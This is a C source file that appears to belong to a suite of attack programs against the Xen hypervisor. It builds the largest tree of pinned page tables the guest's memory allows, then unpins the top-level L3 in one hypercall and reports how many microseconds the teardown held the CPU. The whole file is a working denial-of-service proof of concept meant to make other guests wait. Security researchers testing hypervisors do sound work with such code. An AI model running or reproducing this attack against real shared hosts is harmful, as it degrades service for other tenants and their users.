/* SPDX-License-Identifier: MIT */
/*
 * teardown.c - a tree of page tables as large as our memory allows, and then the end of it by one
 * hypercall: nobody else may have to wait for that. How long it held the cpu is told.
 */
#include "attack.h"

#define MAX_TABLES 8192U

/* The frame of a page that is mapped nowhere, with the contents of one of pages[]. */
static unsigned long copy_of(unsigned int page, unsigned long pfn)
{
    struct mmuext_op op = { .cmd = MMUEXT_COPY_PAGE };

    op.arg1.mfn = pfn_to_mfn(pfn);
    op.arg2.src_mfn = virt_to_mfn(pages[page]);
    return mmuext_op(&op, 1, NULL, DOMID_SELF) ? 0 : pfn_to_mfn(pfn);
}

/* An L2 over 512 new L1s, which only it holds; 0 if that can't be done. */
static unsigned long new_l2(unsigned long pfn)
{
    unsigned long l2;

    for (unsigned int i = 0; i < 512; i++) {
        unsigned long l1 = copy_of(0, pfn + i);

        if (!l1 || mmuext(MMUEXT_PIN_L1_TABLE, l1, 0)) {
            return 0;
        }
        pages[1][i] = l1 * PAGE_SIZE | PTE_TABLE;
    }
    l2 = copy_of(1, pfn + 512);
    if (!l2 || mmuext(MMUEXT_PIN_L2_TABLE, l2, 0)) {
        return 0;
    }
    for (unsigned int i = 0; i < 512; i++) {
        mmuext(MMUEXT_UNPIN_TABLE, pfn_to_mfn(pfn + i), 0);
    }
    return l2;
}

const char *attack_teardown(void)
{
    unsigned long end = start_info->nr_pages, pfn = end / 2, n = 0, l3, tables = 0;
    uint64_t start;

    for (unsigned int i = 0; i < 512; i++) {
        pages[0][i] = maddr(pages[7]) | PTE_RO;
    }
    for (; pfn + 514 <= end && tables < MAX_TABLES; pfn += 513, tables += 513) {
        unsigned long l2 = new_l2(pfn);

        if (!l2) {
            return "a table was refused";
        }
        pages[2][n++] = l2 * PAGE_SIZE | PTE_TABLE;
    }
    l3 = copy_of(2, end - 1);
    if (!l3 || mmuext(MMUEXT_PIN_L3_TABLE, l3, 0)) {
        return "the L3 was refused";
    }
    for (unsigned long i = 0; i < n; i++) {
        mmuext(MMUEXT_UNPIN_TABLE, (pages[2][i] & PTE_ADDRESS) / PAGE_SIZE, 0);
    }
    start = clock_now();
    if (mmuext(MMUEXT_UNPIN_TABLE, l3, 0)) {
        return "the L3 can't be unpinned";
    }
    printf("attack: %lu tables taken apart in %lu us\n", tables + 1, (clock_now() - start) / US);
    return NULL;
}
